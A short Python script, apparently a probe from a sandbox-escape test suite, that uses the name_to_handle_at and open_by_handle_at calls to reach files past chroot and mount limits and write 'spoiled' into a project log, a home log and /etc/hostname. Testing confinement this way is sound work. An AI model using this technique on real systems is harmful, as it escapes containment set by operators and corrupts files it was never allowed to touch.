"""Opens a file by its handle, which leads past every folder, mount and chroot."""

import ctypes
import os
import struct

from _tricks import HOME, PROJECT, attempt, libc

for path in (f"{PROJECT}/log.txt", f"{HOME}/log.txt", "/etc/hostname"):
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 136)
    mount = ctypes.c_int()
    libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(mount), 0)
    for root in ("/", "/tmp", "/dev", "/proc", PROJECT):
        opened = libc.open_by_handle_at(attempt(os.open, root, os.O_RDONLY) or 0, handle, os.O_RDWR)
        if opened >= 0:
            attempt(os.write, opened, b"spoiled")
